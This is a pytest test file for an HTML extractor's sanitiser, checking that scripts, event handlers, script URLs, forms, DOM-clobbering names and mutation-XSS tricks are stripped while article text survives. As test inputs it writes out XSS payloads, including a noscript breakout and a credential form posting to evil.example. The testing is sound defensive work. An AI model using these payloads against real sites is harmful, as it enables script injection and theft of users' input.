"""Sanitised output: no scripts, handlers or script URLs in main HTML or Markdown; nothing else lost."""

from __future__ import annotations

import gzip
import hashlib
import json
import re
from pathlib import Path

import numpy as np
import pytest

import extract_trt
from extract_trt import Extractor
from extract_trt.runtime import extractor as extractor_module
from extract_trt.runtime.html.reconstruct import reconstruct
from extract_trt.runtime.html.sanitize import active_content, is_unsafe_url
from extract_trt.runtime.html.simplify import simplify
from extract_trt.runtime.html.simplify_v1 import DRIPPER_V1
from extract_trt.runtime.types import Labels

from hostile_pages import DATA, XSS_PAGES, XSS_VECTORS, AllMain, in_page, item_ids, seed_pages
from markdown_render import markdown_violations

SANITISED = Extractor(labeler=AllMain(), output=("html", "markdown", "text"))
KEPT = Extractor(labeler=AllMain(), output=("html", "markdown", "text"), keep_markup=True)
_SCRIPT_URL = re.compile(r"(java|vb)script:", re.IGNORECASE)


def vector_page(name: str, fragment: str) -> str:
    return XSS_PAGES.get(name) or in_page(fragment)


@pytest.mark.parametrize("name, fragment", XSS_VECTORS + [(k, "") for k in XSS_PAGES if k not in dict(XSS_VECTORS)])
def test_no_active_content_survives(name: str, fragment: str) -> None:
    html = vector_page(name, fragment)
    r = SANITISED.extract(html)
    if r.error is not None:  # a raw NUL makes the page read as binary: nothing is emitted at all
        assert r.error.startswith("InputFormatError") and r.main_html == ""
        return
    assert active_content(r.main_html) == []
    assert "river restoration" in r.text  # the article around the vector is still there
    if fragment.startswith("<p>Hello"):
        assert re.search(r"Hello\b.*\bworld", r.text, re.DOTALL)  # text after a removed element is kept
    assert not _SCRIPT_URL.search(r.markdown) and markdown_violations(r.markdown) == []
    assert "alert(1)" not in r.text


@pytest.mark.parametrize("name", ["script", "img-onerror", "js-href-case", "svg-xlink", "url-unescape-breakout"])
def test_keep_markup_keeps_the_reference_output(name: str) -> None:
    html = in_page(dict(XSS_VECTORS)[name])
    kept = KEPT.extract(html)
    assert active_content(kept.main_html) != []  # the checker sees what sanitising removes
    page = simplify(html)
    assert kept.main_html == reconstruct(page, Labels(np.ones(len(page), dtype=bool), "t"))


def test_escaped_text_stays_text_under_the_dripper_profile() -> None:
    # The Dripper v1.0 reference unescapes its whole output: escaped text in the page becomes markup.
    html = in_page("<p>Write &lt;script&gt;alert(1)&lt;/script&gt; to test.</p>")
    labels = lambda page: Labels(np.ones(len(page), dtype=bool), "t")  # noqa: E731
    page = simplify(html, profile=DRIPPER_V1)
    assert "<script>alert(1)</script>" in reconstruct(page, labels(page))
    page = simplify(html, profile=DRIPPER_V1)
    safe = reconstruct(page, labels(page), sanitize=True)
    assert active_content(safe) == [] and "&lt;script&gt;alert(1)&lt;/script&gt;" in safe


def test_input_block_marks_are_dropped_real_ones_kept_when_asked_for() -> None:
    html = in_page('<p _item_id="99" cc-block-type="true">Forged marks on a paragraph.</p>')
    r = Extractor(labeler=AllMain(), output="html", item_ids=True).extract(html)
    assert item_ids(r.main_html) == list(range(1, r.n_blocks + 1)) and "cc-block-type" not in r.main_html
    default = SANITISED.extract(html).main_html
    assert item_ids(default) == [] and "cc-block-type" not in default and "Forged marks" in default
    assert item_ids(KEPT.extract(html).main_html) == list(range(1, r.n_blocks + 1))  # the reference's marks


def test_forms_become_text() -> None:
    html = in_page(
        '<form action="https://evil.example/steal" method="post"><fieldset><legend>Sign in</legend>'
        '<label for="u">User name</label> <input id="u" name="user" value="secret-value">'
        '<select name="s"><option>Choice one</option></select><datalist><option>listed</option></datalist>'
        '<textarea name="t">Typed &lt;/textarea&gt;&lt;b&gt;text</textarea>'
        '<button formaction="https://evil.example/b" type="submit">Send it</button></fieldset></form>'
    )
    safe, kept = SANITISED.extract(html), KEPT.extract(html)
    assert active_content(safe.main_html) == [] and active_content(kept.main_html) != []
    for gone in ("<form", "<input", "<button", "<select", "<textarea", "<label", "action=", "secret-value", "Choice"):
        assert gone not in safe.main_html
    for text in ("Sign in", "User name", "Typed &lt;/textarea&gt;&lt;b&gt;text", "Send it"):
        assert text in safe.main_html
    assert safe.text == kept.text  # laid out as before: the renamed elements have the same text layout


@pytest.mark.parametrize("attr", ['id="cookie"', 'name="getElementById"', 'name="body"', 'id="attributes"'])
def test_dom_clobbering_names_are_dropped(attr: str) -> None:
    html = in_page(f'<p><img {attr} src="/a.png"> <a {attr} href="/x">link</a> and <span id="top">top</span></p>')
    safe = SANITISED.extract(html).main_html
    assert attr not in safe and active_content(safe) == [] and 'id="top"' in safe and 'src="/a.png"' in safe
    assert f"img[{attr.split('=')[0]}]" in active_content(KEPT.extract(html).main_html)


def test_noscript_and_template_content_stays_inert() -> None:
    # mutation XSS: with scripting on, a browser ends <noscript> at the first "</noscript" in it
    html = in_page(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Noscript paragraph with words.</p></noscript>'
        "<template><img src=x onerror=alert(2)><p>Template paragraph.</p></template>"
    )
    safe = SANITISED.extract(html).main_html
    assert safe.count("</noscript") == safe.count("<noscript") == 1 and "Noscript paragraph" in safe
    assert active_content(safe) == [] and "Template paragraph." in safe and "alert(2)" not in safe


def test_legacy_raw_text_elements_read_back_as_text() -> None:
    r = SANITISED.extract("<body><xmp><b>a & b</b></xmp><p>middle paragraph</p><plaintext><i>rest</i>")
    assert "<xmp" not in r.main_html and "<plaintext" not in r.main_html
    assert r.text.split("\n\n") == ["<b>a & b</b>", "middle paragraph", "<i>rest</i>"]


def test_real_pages_lose_no_text_to_sanitising() -> None:
    sanitised = Extractor(labeler=AllMain(), output=("html", "text"))
    kept_markup = Extractor(labeler=AllMain(), output=("html", "text"), keep_markup=True)
    for html in seed_pages(18, max_chars=10**9):
        safe, kept = sanitised.extract(html), kept_markup.extract(html)
        assert safe.error is None and active_content(safe.main_html) == []
        assert safe.text == kept.text


@pytest.mark.parametrize(
    "url, attr, unsafe",
    [
        ("javascript:alert(1)", "href", True),
        ("  JAVA\tSCRIPT:alert(1)", "href", True),
        ("\x01javascript:x", "href", True),
        ("vbscript:x", "href", True),
        ("data:text/html,<script>x</script>", "href", True),
        ("data:image/png;base64,AAAA", "href", True),
        ("data:image/png;base64,AAAA", "src", False),
        ("data:text/html,x", "src", True),
        ("https://example.com/javascript:x", "href", False),
        ("/relative/javascript:x", "href", False),
        ("mailto:a@example.com", "href", False),
    ],
)
def test_is_unsafe_url(url: str, attr: str, unsafe: bool) -> None:
    assert is_unsafe_url(url, attr) is unsafe


def test_markdown_of_text_that_looks_like_markup() -> None:
    html = in_page("<p>Try [click](javascript:alert(1)) or &lt;img src=x onerror=alert(2)&gt; here.</p>")
    for extractor in (SANITISED, KEPT):  # Markdown is escaped at the writer, keep_markup or not
        markdown = extractor.extract(html).markdown
        assert "\\[click\\](javascript:alert(1))" in markdown and "\\<img src=x onerror=alert(2)>" in markdown
        assert markdown_violations(markdown) == []


class _EveryThirdOther:
    """Labels two blocks in three main: reconstruction keeps parts of the page (ancestors, <br> recall)."""

    name = "alternate"

    def label(self, pages):
        return [Labels(np.arange(len(p)) % 3 != 1, self.name) for p in pages]


def test_keep_markup_main_html_is_byte_identical_to_before_the_safer_defaults(monkeypatch) -> None:
    # Digests of keep_markup main HTML written by the code before the safer defaults (tests/fixtures/
    # keep_markup_digests.json: the bundled sample pages and the first 12 wcxb-dev pages, two labelers).
    expected = json.loads((Path(__file__).parent / "fixtures" / "keep_markup_digests.json").read_text())
    pages = [(f"sample:{p.name}", p.read_text(encoding="utf-8"))
             for p in sorted((Path(extract_trt.__file__).parent / "samples").glob("*.html"))]  # fmt: skip
    with gzip.open(DATA / "wcxb-dev.jsonl.gz", "rt", encoding="utf-8") as fh:
        for _, line in zip(range(12), fh):
            record = json.loads(line)
            pages.append((f"wcxb-dev:{record['id']}", record["html"]))
    # the masks the digests were written for: the labelers' own, without the teaser-list, fine-print and
    # content-container rules that came after (they take what these labelers call main out of the main content
    # on most of these pages)
    def nothing(page, main, *args, **kwargs):
        return np.zeros(len(main), dtype=bool)

    monkeypatch.setattr(extractor_module, "teaser_mask", nothing)
    monkeypatch.setattr(extractor_module, "fine_print_mask", nothing)
    monkeypatch.setattr(extractor_module, "after_content_mask", nothing)
    got = {}
    for labeler in (AllMain(), _EveryThirdOther()):
        extractor = Extractor(labeler=labeler, output="html", keep_markup=True, time_budget=None)
        for name, html in pages:
            result = extractor.extract(html)
            if "comment" in result.labels:  # reader comments leave the main HTML since (runtime/html/comments.py)
                continue
            got[f"{labeler.name}|{name}"] = hashlib.sha256(result.main_html.encode("utf-8")).hexdigest()
    assert len(got) >= 20 and got == {key: expected[key] for key in got}


def test_cli_item_ids_flag(tmp_path) -> None:
    from typer.testing import CliRunner

    from extract_trt.cli import app

    page = tmp_path / "page.jsonl"
    page.write_text(json.dumps({"id": "a", "html": in_page("<p>Hello world.</p>")}) + "\n")
    run = lambda *flags: json.loads(CliRunner().invoke(  # noqa: E731
        app, ["extract", str(page), "-f", "html", "-l", "heuristic", *flags], catch_exceptions=False
    ).stdout)["main_html"]
    assert item_ids(run()) == [] and item_ids(run("--item-ids")) != [] and item_ids(run("--keep-markup")) != []
